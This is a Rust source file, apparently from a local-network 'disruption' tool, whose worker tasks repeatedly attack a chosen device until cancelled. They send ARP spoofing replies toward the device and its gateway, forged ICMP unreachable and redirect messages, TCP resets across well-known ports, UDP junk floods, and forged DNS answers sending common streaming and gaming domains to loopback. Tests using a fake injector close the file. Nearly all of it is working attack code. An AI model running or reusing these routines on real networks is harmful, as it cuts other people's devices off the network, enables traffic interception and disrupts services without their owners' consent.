//! Per-(target, method) worker tasks.
//!
//! Each worker owns one injector and emits one burst per tick until its
//! session's cancellation flag flips. A single failed send is logged and
//! the loop continues; only cancellation ends a worker. Workers check
//! the flag every iteration, so a stop is observed within one interval.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use pnet::util::MacAddr;
use rand::Rng;
use tokio::task::JoinHandle;
use tracing::{debug, warn};

use sever_common::network::device::DeviceKey;
use sever_protocols::{arp, dns, icmp, tcp, udp};

use crate::inject::{Injector, InjectorError, InjectorFactory, TransportKind};
use super::methods::DisruptMethod;

/// Connect timeout for the unprivileged stream-abort path.
const ABORT_CONNECT_TIMEOUT: Duration = Duration::from_millis(300);
/// Payload size of one flood datagram.
const FLOOD_PAYLOAD_LEN: usize = 128;

/// Names the target keeps resolving while under name interference.
const OVERRIDE_DOMAINS: [&str; 5] = [
    "google.com",
    "youtube.com",
    "netflix.com",
    "playstation.net",
    "xboxlive.com",
];

/// Everything a worker needs to know about its target.
#[derive(Debug, Clone)]
pub struct TargetContext {
    pub target: DeviceKey,
    pub target_v4: Ipv4Addr,
    pub target_mac: Option<MacAddr>,
    pub gateway_v4: Ipv4Addr,
    pub gateway_mac: Option<MacAddr>,
    pub our_v4: Ipv4Addr,
    pub our_mac: MacAddr,
    pub interface: String,
}

/// Opens the method's egress channel and spawns its periodic task.
/// Channel-open failures are returned so the engine can gate or latch
/// the method; after this point the worker only ever logs.
pub fn spawn(
    method: DisruptMethod,
    ctx: &TargetContext,
    injectors: &dyn InjectorFactory,
    privileged: bool,
    cancel: Arc<AtomicBool>,
) -> Result<JoinHandle<()>, InjectorError> {
    let injector: Option<Box<dyn Injector>> = match method {
        DisruptMethod::ArpSpoof => Some(injectors.layer2(&ctx.interface)?),
        DisruptMethod::IcmpDisrupt => Some(injectors.layer4(TransportKind::Icmp)?),
        DisruptMethod::TcpReset if privileged => Some(injectors.layer4(TransportKind::Tcp)?),
        DisruptMethod::TcpReset => Some(injectors.stream_abort(ABORT_CONNECT_TIMEOUT)?),
        DisruptMethod::UdpFlood if privileged => Some(injectors.layer4(TransportKind::Udp)?),
        DisruptMethod::UdpFlood => Some(injectors.datagram()?),
        DisruptMethod::DnsOverride => Some(injectors.layer4(TransportKind::Udp)?),
        // Rules were applied before the worker spawns; the keeper just
        // holds the method's slot in the session until stop.
        DisruptMethod::RuleBlock => None,
    };

    let ctx = ctx.clone();
    let interval = method.interval();
    Ok(tokio::spawn(async move {
        let mut injector = injector;
        loop {
            if cancel.load(Ordering::Relaxed) {
                break;
            }
            if let Some(injector) = injector.as_mut() {
                if let Err(e) = burst(method, injector.as_mut(), &ctx, privileged) {
                    // Transient per-packet failure: keep the session up.
                    warn!(device = %ctx.target, %method, "send failed: {e}");
                }
            }
            tokio::time::sleep(interval).await;
        }
        debug!(device = %ctx.target, %method, "worker cancelled");
    }))
}

fn burst(
    method: DisruptMethod,
    injector: &mut dyn Injector,
    ctx: &TargetContext,
    privileged: bool,
) -> io::Result<()> {
    match method {
        DisruptMethod::ArpSpoof => arp_burst(injector, ctx),
        DisruptMethod::IcmpDisrupt => icmp_burst(injector, ctx),
        DisruptMethod::TcpReset if privileged => tcp_reset_burst(injector, ctx),
        DisruptMethod::TcpReset => stream_abort_burst(injector, ctx),
        DisruptMethod::UdpFlood if privileged => udp_flood_burst(injector, ctx),
        DisruptMethod::UdpFlood => datagram_flood_burst(injector, ctx),
        DisruptMethod::DnsOverride => dns_burst(injector, ctx),
        DisruptMethod::RuleBlock => Ok(()),
    }
}

/// Both directions plus a gratuitous claim: the target learns a bogus
/// gateway, the gateway learns a bogus target, and the rest of the
/// segment follows the broadcast.
fn arp_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    let sink = SocketAddr::new(IpAddr::V4(ctx.target_v4), 0);
    let victim_mac = ctx.target_mac.unwrap_or_else(MacAddr::broadcast);

    injector.inject(
        &arp::spoof_reply(ctx.our_mac, ctx.gateway_v4, victim_mac, ctx.target_v4),
        sink,
    )?;
    if let Some(gateway_mac) = ctx.gateway_mac {
        injector.inject(
            &arp::spoof_reply(ctx.our_mac, ctx.target_v4, gateway_mac, ctx.gateway_v4),
            sink,
        )?;
    }
    injector.inject(&arp::gratuitous_claim(ctx.our_mac, ctx.target_v4), sink)
}

fn icmp_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    let sink = SocketAddr::new(IpAddr::V4(ctx.target_v4), 0);
    let unreachable = icmp::destination_unreachable(ctx.target_v4, ctx.gateway_v4)
        .map_err(io::Error::other)?;
    let exceeded =
        icmp::time_exceeded(ctx.target_v4, ctx.gateway_v4).map_err(io::Error::other)?;
    let redirect = icmp::redirect(ctx.target_v4, ctx.gateway_v4, ctx.our_v4)
        .map_err(io::Error::other)?;

    injector.inject(&unreachable, sink)?;
    injector.inject(&exceeded, sink)?;
    injector.inject(&redirect, sink)
}

fn tcp_reset_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    let mut rng = rand::rng();
    for port in tcp::WELL_KNOWN_PORTS {
        let segment = tcp::reset_segment(
            ctx.our_v4,
            rng.random_range(1024..u16::MAX),
            ctx.target_v4,
            port,
            rng.random(),
        )
        .map_err(io::Error::other)?;
        injector.inject(&segment, SocketAddr::new(IpAddr::V4(ctx.target_v4), port))?;
    }
    Ok(())
}

/// Unprivileged form: churn connects against the target's service
/// ports. Refused and silent ports are the expected case, not failures.
fn stream_abort_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    for port in tcp::WELL_KNOWN_PORTS {
        let dst = SocketAddr::new(IpAddr::V4(ctx.target_v4), port);
        match injector.inject(&[0u8; 8], dst) {
            Ok(()) => {}
            Err(e)
                if matches!(
                    e.kind(),
                    io::ErrorKind::ConnectionRefused
                        | io::ErrorKind::TimedOut
                        | io::ErrorKind::ConnectionReset
                ) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

fn udp_flood_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    let mut rng = rand::rng();
    for port in udp::FLOOD_PORTS {
        let datagram = udp::junk_datagram(
            ctx.our_v4,
            rng.random_range(1024..u16::MAX),
            ctx.target_v4,
            port,
            FLOOD_PAYLOAD_LEN,
        )
        .map_err(io::Error::other)?;
        injector.inject(&datagram, SocketAddr::new(IpAddr::V4(ctx.target_v4), port))?;
    }
    Ok(())
}

/// Socket form of the flood: the kernel builds the headers, we just
/// push junk payloads.
fn datagram_flood_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    let mut payload = [0u8; FLOOD_PAYLOAD_LEN];
    rand::rng().fill(&mut payload);
    for port in udp::FLOOD_PORTS {
        injector.inject(&payload, SocketAddr::new(IpAddr::V4(ctx.target_v4), port))?;
    }
    Ok(())
}

/// Forged answers resolving common names to the loopback, sent at the
/// target's ephemeral range. The durable half of this method is the
/// resolver-table override the rule orchestrator applied at start.
fn dns_burst(injector: &mut dyn Injector, ctx: &TargetContext) -> io::Result<()> {
    let mut rng = rand::rng();
    for domain in OVERRIDE_DOMAINS {
        let answer = dns::forged_answer(domain, Ipv4Addr::LOCALHOST, rng.random());
        let dport: u16 = rng.random_range(49_152..u16::MAX);
        let datagram = udp::datagram(ctx.our_v4, 53, ctx.target_v4, dport, &answer)
            .map_err(io::Error::other)?;
        injector.inject(&datagram, SocketAddr::new(IpAddr::V4(ctx.target_v4), dport))?;
    }
    Ok(())
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::FakeInjectorFactory;

    fn ctx() -> TargetContext {
        let target_v4 = Ipv4Addr::new(192, 168, 1, 50);
        TargetContext {
            target: DeviceKey::from_addr(IpAddr::V4(target_v4)),
            target_v4,
            target_mac: Some(MacAddr::new(0x11, 0x22, 0x33, 0x44, 0x55, 0x66)),
            gateway_v4: Ipv4Addr::new(192, 168, 1, 1),
            gateway_mac: Some(MacAddr::new(0xa4, 0x2b, 0xb0, 0, 0, 1)),
            our_v4: Ipv4Addr::new(192, 168, 1, 2),
            our_mac: MacAddr::new(0xaa, 0xbb, 0xcc, 0, 0, 2),
            interface: "eth0".to_string(),
        }
    }

    #[tokio::test]
    async fn worker_stops_within_one_interval_of_cancellation() {
        let factory = FakeInjectorFactory::new();
        let cancel = Arc::new(AtomicBool::new(false));
        let handle = spawn(
            DisruptMethod::UdpFlood,
            &ctx(),
            &*factory,
            true,
            Arc::clone(&cancel),
        )
        .unwrap();

        tokio::time::sleep(Duration::from_millis(30)).await;
        assert!(factory.sent_count() > 0, "worker should have emitted bursts");

        cancel.store(true, Ordering::Relaxed);
        tokio::time::timeout(Duration::from_secs(1), handle)
            .await
            .expect("worker must exit within its interval bound")
            .unwrap();
    }

    #[tokio::test]
    async fn arp_burst_emits_both_directions_and_the_broadcast() {
        let factory = FakeInjectorFactory::new();
        let mut injector = factory.layer2("eth0").unwrap();
        arp_burst(injector.as_mut(), &ctx()).unwrap();
        assert_eq!(factory.sent_count(), 3);
    }

    #[tokio::test]
    async fn reset_burst_covers_every_well_known_port() {
        let factory = FakeInjectorFactory::new();
        let mut injector = factory.layer4(TransportKind::Tcp).unwrap();
        tcp_reset_burst(injector.as_mut(), &ctx()).unwrap();
        assert_eq!(factory.sent_count(), tcp::WELL_KNOWN_PORTS.len());
        let ports = factory.sent_ports();
        for port in tcp::WELL_KNOWN_PORTS {
            assert!(ports.contains(&port), "missing RST for port {port}");
        }
    }

    #[tokio::test]
    async fn stream_abort_burst_swallows_refusals() {
        let factory = FakeInjectorFactory::new();
        factory.refuse_connections();
        let mut injector = factory.stream_abort(ABORT_CONNECT_TIMEOUT).unwrap();
        stream_abort_burst(injector.as_mut(), &ctx()).expect("refusals are routine");
    }
}
